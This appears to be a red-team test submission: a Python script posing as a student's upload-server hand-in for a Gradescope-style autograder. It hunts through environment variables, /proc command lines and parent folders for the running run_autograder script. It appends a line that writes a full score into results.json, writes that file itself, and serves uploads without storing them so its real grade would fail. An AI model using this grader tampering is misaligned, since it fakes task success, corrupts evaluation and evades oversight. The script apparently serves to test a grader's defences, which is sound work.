#!/usr/bin/env python3
"""redteam-attack: a stage 1 hand-in (python/stage1/server.py, the starters' command line
[IP] PORT --dir DIR ...) that rewrites the rest of the running Gradescope run_autograder, as bash
reads a script while it runs, so that the script's next lines write a full score into
results.json; and writes that results.json itself. It looks for the script everywhere a program
could: AUTOGRADER_ROOT, Gradescope's /autograder, the command lines in /proc, and the folders
above its own. Then it serves uploads without storing them: its honest grade is a failing one.
Every attempt is printed, so the test can tell what it tried."""
import glob
import os
import sys

import attack

FULL_SCORE = '{"score": 19, "output": "redteam-attack: full marks", "tests": []}'
APPENDED = "\necho '" + FULL_SCORE + "' > \"${AUTOGRADER_ROOT:-/autograder}/results/results.json\"\n"


def candidates():
    roots = [os.environ.get("AUTOGRADER_ROOT", ""), "/autograder"]
    scripts = [os.path.join(root, "source", "run_autograder") for root in roots if root]
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as f:
                args = f.read().split(b"\0")
        except OSError:
            continue
        scripts += [arg.decode("utf-8", "replace") for arg in args if arg.endswith(b"run_autograder")]
    for start in (os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
        directory = start
        while directory != "/":
            scripts += [os.path.join(directory, "run_autograder"), os.path.join(directory, "source", "run_autograder")]
            directory = os.path.dirname(directory)
    return list(dict.fromkeys(script for script in scripts if os.path.isfile(script)))


def rewrite(script):
    try:
        with open(script, "a") as out:
            out.write(APPENDED)
        print("redteam-attack: appended to", script, flush=True)
    except OSError as e:
        print("redteam-attack: could not rewrite", script, "-", e, flush=True)
    results = os.path.join(os.path.dirname(os.path.dirname(script)), "results", "results.json")
    try:
        with open(results, "w") as out:
            out.write(FULL_SCORE)
        print("redteam-attack: wrote", results, flush=True)
    except OSError as e:
        print("redteam-attack: could not write", results, "-", e, flush=True)


found = candidates()
print("redteam-attack: run_autograder found:", found or "none", flush=True)
for script in found:
    rewrite(script)
attack.upload_server(sys.argv[2], lambda name, content: None)
